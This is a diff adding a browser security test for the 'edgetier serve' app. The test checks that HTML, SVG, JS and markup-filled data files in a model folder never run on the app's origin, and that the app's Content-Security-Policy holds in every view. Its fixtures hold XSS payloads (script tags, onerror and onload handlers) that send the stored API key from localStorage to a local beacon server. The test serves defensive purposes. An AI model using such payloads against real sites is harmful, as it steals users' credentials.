@@ -1,0 +1,156 @@
+/**
+ * Hostile data against the app in real Chromium and the real `edgetier serve`: a model folder
+ * holding pages and scripts, and the app's own Content-Security-Policy in every view.
+ * 1. Files of a model folder (card.html, logo.svg, x.js, a .txt and a .json full of markup) opened
+ *    as pages on the app's origin run nothing: no dialog, no global set, no request.
+ * 2. The app's pages carry the CSP and still work in every view, with no CSP violation reported
+ *    (the page's and the engine worker's console both count).
+ */
+import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { buildApp, launchChromium, type ServeProcess, startServe, synthTinyModels } from './app-fixture.ts';
+
+let serve: ServeProcess;
+let browser: Awaited<ReturnType<typeof launchChromium>>;
+let page: Page;
+let modelsDir: string;
+/** Where the hostile files send what they steal; every hit is a failure. */
+let beacon: Server;
+let beaconUrl: string;
+const beaconHits: string[] = [];
+const dialogs: string[] = [];
+const consoleLines: string[] = [];
+
+/** What each hostile file tries once it runs: a dialog, a global, a request with the stored key. */
+function payload(): string {
+  return `window.__pwned = 1; alert('pwned'); fetch('${beaconUrl}/steal?k=' + encodeURIComponent(localStorage.getItem('edgetier.keys.v1'))); navigator.sendBeacon('${beaconUrl}/beacon'); new Image().src = '${beaconUrl}/img';`;
+}
+
+function writeHostileFiles(folder: string): void {
+  const script = `<script>${payload()}</script>`;
+  writeFileSync(
+    join(folder, 'card.html'),
+    `<!doctype html><title>card</title>${script}<img src=x onerror="${payload()}">`,
+  );
+  writeFileSync(
+    join(folder, 'logo.svg'),
+    `<svg xmlns="http://www.w3.org/2000/svg" onload="${payload().replace(/"/g, '&quot;')}">${script}</svg>`,
+  );
+  writeFileSync(join(folder, 'x.js'), payload());
+  writeFileSync(join(folder, 'README.md'), `<!doctype html><h1>Model card</h1>${script}`);
+  mkdirSync(join(folder, 'extra'), { recursive: true });
+  writeFileSync(join(folder, 'extra', 'notes.json'), `<!doctype html>${script}`);
+}
+
+beforeAll(async () => {
+  beacon = createServer((req, res) => {
+    beaconHits.push(`${req.method} ${req.url}`);
+    res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
+  });
+  await new Promise<void>((done) => beacon.listen(0, '127.0.0.1', done));
+  beaconUrl = `http://127.0.0.1:${(beacon.address() as AddressInfo).port}`;
+  const app = await buildApp();
+  modelsDir = synthTinyModels();
+  writeHostileFiles(join(modelsDir, 'tiny'));
+  serve = await startServe([
+    '--app',
+    app,
+    '--models',
+    modelsDir,
+    '--tier',
+    'tiny',
+    '--tier-dtype',
+    'fp32',
+    '--quiet',
+  ]);
+  browser = await launchChromium();
+  page = browser.page;
+  page.on('dialog', (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  page.on('console', (line) => consoleLines.push(line.text()));
+});
+
+afterAll(async () => {
+  await browser?.close();
+  await serve?.stop();
+  beacon?.close();
+  if (modelsDir) rmSync(modelsDir, { recursive: true, force: true });
+});
+
+const cspViolations = () => consoleLines.filter((l) => /Content Security Policy|Refused to/i.test(l));
+
+describe("a model folder's files never run on the app's origin", () => {
+  it('opens each hostile file in the app origin: no script runs, nothing is sent', async () => {
+    // The app first, with a key remembered, as a victim would have it.
+    await page.goto(serve.url);
+    await page.evaluate(`localStorage.setItem('edgetier.keys.v1', '{"t":"sk-secret"}')`);
+    for (const name of [
+      'card.html',
+      'logo.svg',
+      'x.js',
+      'README.md',
+      'extra/notes.json',
+      'CARD.HTML',
+      'card%2Ehtml',
+    ]) {
+      const url = `${serve.url}models/tiny/${name}`;
+      const response = await page.goto(url).catch((error: Error) => {
+        // A download instead of a page is fine too: nothing renders.
+        if (/Download is starting/.test(error.message)) return null;
+        throw error;
+      });
+      if (response) {
+        await page.waitForLoadState('load');
+        expect(await page.evaluate('window.__pwned ?? null'), name).toBeNull();
+      }
+    }
+    // Let any stray request land before looking (a script that ran would have sent at once).
+    await page.goto(serve.url);
+    await fetch(`${beaconUrl}/control`);
+    expect(beaconHits).toEqual(['GET /control']);
+    expect(dialogs).toEqual([]);
+  });
+
+  it('answers the pages and scripts with 404 and serves the data files inert', async () => {
+    for (const name of ['card.html', 'logo.svg', 'x.js']) {
+      expect((await fetch(`${serve.url}models/tiny/${name}`)).status, name).toBe(404);
+    }
+    const readme = await fetch(`${serve.url}models/tiny/README.md`);
+    expect(readme.headers.get('content-type')).toBe('text/plain; charset=utf-8');
+    expect(readme.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'");
+    expect(readme.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(await readme.text()).toBe(readFileSync(join(modelsDir, 'tiny', 'README.md'), 'utf8'));
+  });
+});
+
+describe("the app's Content-Security-Policy", () => {
+  it('is on the page, and every view works under it with no violation reported', async () => {
+    consoleLines.length = 0;
+    const response = await page.goto(serve.url);
+    expect(response?.headers()['content-security-policy']).toContain("script-src 'self' 'wasm-unsafe-eval'");
+    await page.getByRole('link', { name: 'Settings', exact: true }).click();
+    await page.getByLabel('Max new tokens').fill('8');
+    await page.getByLabel('Max new tokens').press('Tab');
+    await page.getByRole('link', { name: 'Models', exact: true }).click();
+    const card = page.getByRole('article', { name: 'tiny' });
+    await card.getByText('Synthetic twin', { exact: true }).waitFor();
+    await card.getByRole('button', { name: 'Use tiny' }).click();
+    await page.getByText('Fully local', { exact: true }).waitFor({ timeout: 90_000 });
+    const message = page.getByRole('textbox', { name: 'Message', exact: true });
+    await message.fill('Hello there');
+    await message.press('Enter');
+    await page.locator('et-chat-message').last().getByTestId('message-metrics').waitFor({ timeout: 60_000 });
+    await page.getByRole('link', { name: 'Compare', exact: true }).click();
+    await page.getByRole('button', { name: 'Compare', exact: true }).click();
+    await page.getByTestId('tradeoff').waitFor({ timeout: 90_000 });
+    await page.getByRole('link', { name: 'Bench', exact: true }).click();
+    await page.getByRole('link', { name: 'Chat', exact: true }).click();
+    expect(cspViolations()).toEqual([]);
+  });
+});
